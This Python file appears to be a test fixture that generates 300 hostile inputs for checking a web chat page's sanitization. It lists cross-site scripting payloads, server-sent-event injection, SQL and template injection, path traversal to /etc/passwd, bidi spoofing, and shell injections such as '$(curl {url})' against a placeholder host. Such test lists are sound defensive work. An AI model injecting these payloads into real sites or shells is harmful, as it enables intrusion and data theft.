"""300 texts that try to be something else. Each would set window.__x, open a dialog, load from elsewhere, or change the page."""

SCRIPTS = [
    "<script>{x}</script>", "<script src={url}></script>", "</script><script>{x}</script>", "<img src=x onerror={x}>", "<img src={url}>",
    "<img src=x onerror=alert(1)>", "<svg onload={x}>", "<svg><script>{x}</script></svg>", "<svg/onload={x}//",
    "<iframe src=javascript:{x}></iframe>", "<iframe srcdoc='<script>parent.{x}</script>'></iframe>", "<iframe src={url}></iframe>",
    "<body onload={x}>", "<input autofocus onfocus={x}>", "<details open ontoggle={x}>", "<video><source onerror={x}></video>",
    "<audio src={url} autoplay>", "<object data={url}></object>", "<embed src={url}>", "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>", "<base href={url}>", "<meta http-equiv=refresh content='0;url={url}'>",
    "<style>@import '{url}';</style>", "<style>*{{display:none!important}}</style>", "<p style='background:url({url})'>",
    "<math href=javascript:{x}>x</math>", "<form action={url}><button autofocus>Send</button></form>", "<a href=javascript:{x}>x</a>",
    "<a href='{url}' ping='{url}'>x</a>", "<marquee onstart={x}>x</marquee>", "<table background={url}>",
    "<select autofocus onfocus={x}>", "<template><script>{x}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>", "<!--><img src=x onerror={x}>-->", "<![CDATA[<img src=x onerror={x}>]]>",
    "<x onclick={x} tabindex=0 autofocus>x</x>", '"><script>{x}</script>', "'><script>{x}</script>", '" autofocus onfocus={x} x="',
    "' onmouseover={x} '", "` onerror={x} `", "</textarea><script>{x}</script>", "</title><script>{x}</script>",
    "</style><script>{x}</script>", "</dialog></main><h1 id=log>Log in again</h1>", "javascript:{x}",
    "data:text/html,<script>{x}</script>", "vbscript:{x}", "[click]({url})", "![image]({url})", "[click](javascript:{x})", "<{url}>",
    "[x]: {url}\n[x]", "# heading\n<script>{x}</script>", "{url}", "```html\n<script>{x}</script>\n```",
    "```\n</code></pre><script>{x}</script>\n```", "```<img src=x onerror={x}>\nx\n```", "`<img src=x onerror={x}>`", "${{{x}}}",
    "{{{{constructor.constructor('{x}')()}}}}", "&lt;script&gt;{x}&lt;/script&gt;", "&#60;img src=x onerror={x}&#62;",
    "%3Cscript%3E{x}%3C/script%3E", "+ADw-script+AD4-{x}+ADw-/script+AD4-", "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "\u003cIMG\fSRC=x\fONERROR={x}\u003e", "<ſcript>{x}</ſcript>", "<scr\u200bipt>{x}</scr\u200bipt>",
    "<svg><animate onbegin={x} attributeName=x>", "<svg><image href={url}></svg>", "<svg><use href='data:image/svg+xml,{url}#x'/></svg>",
    "\nevent: reset\ndata: {{}}\n\n", '\r\n\r\nevent: state\r\ndata: {{"as":"evil"}}\r\n\r\n', "\ndata: x\nid: evil-1\n\n",
    "retry: 1\n\n:",
]
WORDS = [
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "then", "undefined", "null", "NaN", "true",
    "0", "-1", "*", ".", "..", "/", "//", "../../etc/passwd", "?task=1", "#drawer", "%00", "%2e%2e", "log", "drawer", "text", "send",
    "composer", "to", "newest", "window", "document", "children", "\u202eexe.txt\u202c", "\u2066\u202egnp.exe\u2069",
    "\u200f\u202bعربي abc\u202c", "a\u0300" * 200, "\u200b\u200c\u200d\ufeff", "\u2028\u2029", "\u0001\u0007\u001b[31mred\u001b[0m",
    "\u0008\u0008\u0008", "\x7f\x80\x9b31m", "\t\t\t", "\n" * 300, "𒐫" * 50, "﷽" * 50, "🏴\U000e0067\U000e0062\U000e007f",
    "W" * 2000,
    "\ufff9\ufffa\ufffb", "\ue000\uffff", " ", "  x  ", "\u00a0", "(99) messages", "user", "USER", "Everybody", "system", "code\u200b",
    "сode", "You are not logged in. Open {url}", "' OR 1=1 --", "'); DROP TABLE messages;--", "{{{{7*7}}}}", "${{7*7}}", "<%= 7*7 %>",
    '=HYPERLINK("{url}")', "|| ping {url}", "$(curl {url})", "\\", "\\\\", "'", '"', "`", "<", ">", "&", "&amp;", "]]>", "-->", "/*",
    "*/",
]
WRAPPED = ["> {} quoted", "**{}**", "```\n{}\n```", "line\n{}\nline"]


def texts(url: str) -> list[str]:
    """The texts; `url` is a place that must never be asked for."""
    made = [text.replace("{x}", "window.__x=1").replace("{url}", url).replace("{{", "{").replace("}}", "}") for text in SCRIPTS + WORDS]
    number = 0
    while len(made) < 300:
        made.append(WRAPPED[number % 4].replace("{}", made[number]))
        number += 1
    return made
